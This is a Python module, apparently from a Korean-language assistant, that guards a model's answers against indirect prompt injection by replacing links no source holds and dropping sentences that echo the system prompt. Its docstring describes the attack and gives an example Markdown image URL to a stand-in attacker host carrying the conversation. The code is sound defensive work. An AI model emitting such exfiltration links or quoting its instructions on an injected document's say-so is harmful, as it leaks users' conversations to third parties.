"""What a model's answer may not pass on, whatever a document told the model to write.

Indirect prompt injection (SECURITY.md check 5) hides instructions in an ingested file;
a model that obeys them can only act through tools (whose scope is enforced in code, see
:mod:`dalin.tools.base`) and through the text it writes. Two things are taken out of that
text before it is checked and shown:

* **links no source holds.** An image or link whose URL carries the conversation
  (``![x](https://attacker.example/?q=…)``) makes a client that renders Markdown send the
  conversation away as soon as it draws the answer. A URL is kept only when a given source
  holds it verbatim: a document's own links stay, and a URL the model built — with the
  question in it — never matches one.
* **the model's own instructions.** A sentence that repeats a run of ``ECHO_CHARS``
  characters of the system prompt (rules, the business's instructions, the tool rules), or
  that is, whole, a sentence of it (list numbering aside), is dropped: an answer never needs
  to quote them.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from dalin.text.korean import split_sentences

#: characters in a row shared with the instructions that make a sentence an echo of them
ECHO_CHARS = 30
#: a shorter sentence is an echo when the instructions hold all of it
MIN_ECHO_SENTENCE = 8
LINK_REMOVED = {"ko": "(링크 삭제됨)", "en": "(link removed)"}
_LINK = re.compile(
    r"!?\[[^\]\n]*\]\(\s*<?(?P<markdown>[^)\s>]+)>?[^)\n]*\)"  # ![alt](url), [text](url "t")
    r"|<(?:img|a|iframe|script|link)\b[^>]*?(?:src|href)\s*=\s*[\"']?(?P<html>[^\"'\s>]+)[^>]*>"
    r"|(?P<bare>\b(?:https?|ftp)://[^\s<>\"'`)\]]+|\bwww\.[^\s<>\"'`)\]]+)",
    re.IGNORECASE,
)
_SPACE = re.compile(r"\s+")
_LIST_MARKER = re.compile(r"^\s*(?:[-*•·]|\d{1,2}[.)])\s*")


def guard_answer(text: str, *, sources: Sequence[str], instructions: str, language: str) -> str:
    """``text`` without links no source holds and without sentences echoing ``instructions``."""
    return without_echoes(without_foreign_links(text, sources, language), instructions)


def without_foreign_links(text: str, sources: Sequence[str], language: str = "ko") -> str:
    """``text`` with every link, image or bare URL that no source holds verbatim replaced."""

    def check(match: re.Match[str]) -> str:
        url = match.group("markdown") or match.group("html") or match.group("bare") or ""
        if url and any(url in source for source in sources):
            return match.group(0)
        return LINK_REMOVED.get(language, LINK_REMOVED["en"])

    return _LINK.sub(check, text)


def without_echoes(text: str, instructions: str) -> str:
    """``text`` without the sentences that repeat ``ECHO_CHARS`` characters of
    ``instructions`` in a row, or are a sentence of them (spacing ignored)."""
    rules = _SPACE.sub(" ", instructions)
    if len(rules) < ECHO_CHARS:
        return text
    kept: list[str] = []
    position = 0
    for sentence in split_sentences(text):
        if not _echoes(_SPACE.sub(" ", sentence.text).strip(), rules):
            kept.append(text[position : sentence.end])
        position = sentence.end
    kept.append(text[position:])
    return "".join(kept).strip()


def _echoes(sentence: str, rules: str) -> bool:
    whole = _LIST_MARKER.sub("", sentence).strip()
    if len(whole) >= MIN_ECHO_SENTENCE and whole in rules:
        return True
    return any(sentence[i : i + ECHO_CHARS] in rules for i in range(len(sentence) - ECHO_CHARS + 1))
